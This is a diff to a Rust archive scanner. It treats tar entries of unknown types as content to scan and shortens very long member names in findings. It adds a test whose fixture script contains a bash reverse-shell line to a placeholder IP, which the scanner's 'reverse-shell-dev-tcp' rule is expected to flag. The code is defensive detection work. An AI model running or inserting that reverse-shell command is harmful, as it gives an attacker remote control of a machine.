@@ -164,7 +164,9 @@ impl Scanner {
         };
         report.files_scanned += 1;
         report.bytes_scanned += data.len() as u64;
-        let path = format!("{name}!{member}");
+        // Every finding carries its path: a member name of megabytes (a tar long name) would
+        // be copied into each of up to a thousand findings. Names are cut at 1 KiB.
+        let path = format!("{name}!{}", short_name(member));
         let room = self.max_findings.saturating_sub(budget.found);
         if room > 0 {
             let found = self.scan_limited(
@@ -272,8 +274,21 @@ impl Scanner {
             // Every entry's body is inflated to skip past it, read or not.
             let declared = entry.size();
             let kind = entry.header().entry_type();
-            // Contiguous files are regular files to every tool that extracts them.
-            if !(kind.is_file() || kind.is_contiguous()) {
+            // What is not a link, a directory, a device, a pipe or a header of the format is
+            // content: GNU tar and Python extract an entry of a type they do not know as a
+            // regular file, so it is scanned as one (as contiguous files are).
+            let not_content = kind.is_dir()
+                || kind.is_symlink()
+                || kind.is_hard_link()
+                || kind.is_character_special()
+                || kind.is_block_special()
+                || kind.is_fifo()
+                || kind.is_pax_global_extensions()
+                || kind.is_pax_local_extensions()
+                || kind.is_gnu_longname()
+                || kind.is_gnu_longlink()
+                || kind.is_gnu_sparse();
+            if not_content {
                 if !budget.admit(declared) {
                     report.skipped_large += 1;
                     break;
@@ -312,6 +327,21 @@ impl Scanner {
         }
         Ok(report)
     }
+}
+
+/// Longest member name kept in a finding's path.
+const MAX_MEMBER_NAME: usize = 1024;
+
+/// `member`, cut at [`MAX_MEMBER_NAME`] bytes (on a character boundary) with a mark.
+fn short_name(member: &str) -> std::borrow::Cow<'_, str> {
+    if member.len() <= MAX_MEMBER_NAME {
+        return member.into();
+    }
+    let mut end = MAX_MEMBER_NAME;
+    while !member.is_char_boundary(end) {
+        end -= 1;
+    }
+    format!("{}…(name cut at {MAX_MEMBER_NAME} bytes)", &member[..end]).into()
 }
 
 #[cfg(test)]
@@ -428,6 +458,45 @@ mod tests {
         );
         assert_eq!(report.files_scanned, 3);
         assert_eq!(report.skipped_binary, 1);
+    }
+
+    #[test]
+    fn tar_entries_of_unknown_types_are_scanned_and_long_names_cut() {
+        // GNU tar and Python extract an entry of an unknown type as a regular file, so it is
+        // content; a long name (a GNU long-name header) is cut in findings' paths.
+        let mut tar = tar::Builder::new(Vec::new());
+        let script = b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n";
+        let mut header = tar::Header::new_gnu();
+        header.set_entry_type(tar::EntryType::new(b'A'));
+        header.set_size(script.len() as u64);
+        header.set_mode(0o755);
+        header.set_cksum();
+        tar.append_data(&mut header, "bin/odd.sh", &script[..])
+            .unwrap();
+        let long = format!("{}/start.sh", "d".repeat(5000));
+        let mut header = tar::Header::new_gnu();
+        header.set_size(script.len() as u64);
+        header.set_mode(0o755);
+        header.set_cksum();
+        tar.append_data(&mut header, &long, &script[..]).unwrap();
+        let bytes = tar.into_inner().unwrap();
+
+        let scanner = Scanner::new(RuleSet::builtin().unwrap());
+        let report = scanner.scan_upload("release.tar", &bytes).unwrap();
+        assert!(
+            report
+                .findings
+                .iter()
+                .any(|f| f.path == "release.tar!bin/odd.sh" && f.rule == "reverse-shell-dev-tcp"),
+            "{:?}",
+            report.findings.iter().map(|f| &f.path).collect::<Vec<_>>()
+        );
+        let cut = report
+            .findings
+            .iter()
+            .find(|f| f.path.contains("name cut at"))
+            .expect("the long-named member is scanned");
+        assert!(cut.path.len() < 1200, "{}", cut.path.len());
     }
 
     #[test]
